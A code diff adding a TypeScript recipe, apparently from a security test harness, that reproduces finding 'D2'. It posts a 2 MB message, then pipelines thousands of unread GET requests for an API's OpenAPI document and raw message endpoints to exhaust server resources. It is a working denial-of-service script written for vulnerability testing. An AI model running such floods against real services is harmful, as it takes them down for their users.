@@ -1,0 +1,46 @@
+// Pipelined requests whose answers nobody reads: without a key for the document, with a key for whole messages.
+
+import { setTimeout as sleep } from 'node:timers/promises'
+import type { UnreadPipeline } from '../loads/unread-pipeline.ts'
+import { type Answered, type Attacked, type Recipe, together } from '../recipe.ts'
+
+const MESSAGE_OCTETS = 2_000_000
+
+const get = (path: string, key?: string): string =>
+  `GET ${path} HTTP/1.1\r\nHost: a\r\n${key === undefined ? '' : `Authorization: Bearer ${key}\r\n`}\r\n`
+
+/** A large message of the attacker's own. */
+async function sendLarge({ url, attacker }: Attacked): Promise<string> {
+  const response = await fetch(`${url}/v1/messages`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${attacker.sendingKey}`, 'content-type': 'application/json' },
+    body: JSON.stringify({
+      from: `a@${attacker.domain.name}`,
+      to: [{ email: 'b@receiver.test' }],
+      subject: 'Large',
+      text: 'All work and no play. '.repeat(MESSAGE_OCTETS / 22),
+    }),
+  })
+  return ((await response.json()) as { message_id: string }).message_id
+}
+
+export const recipe: Recipe = {
+  finding: 'D2',
+  sentence:
+    '20 connections pipeline 1,500 requests for the document each, others for raw messages; nobody reads.',
+  async run(attacked): Promise<Answered> {
+    const { url, attacker, load } = attacked
+    const id = await sendLarge(attacked)
+    const unread = { url, unreadMs: 12_000, readMs: 3_000 }
+    const pipeline = (request: string, connections: number, times: number): Promise<Answered> =>
+      load('unread-pipeline.ts', { ...unread, request, connections, times } satisfies UnreadPipeline)
+    const document = pipeline(get('/v1/openapi.json'), 20, 1_500)
+    await sleep(6_000)
+    const key = attacker.sendingKey
+    return together(
+      document,
+      pipeline(get(`/v1/messages/${id}/raw`, key), 4, 100),
+      pipeline(get(`/v1/messages/${id}?include=content`, key), 4, 100),
+    )
+  },
+}
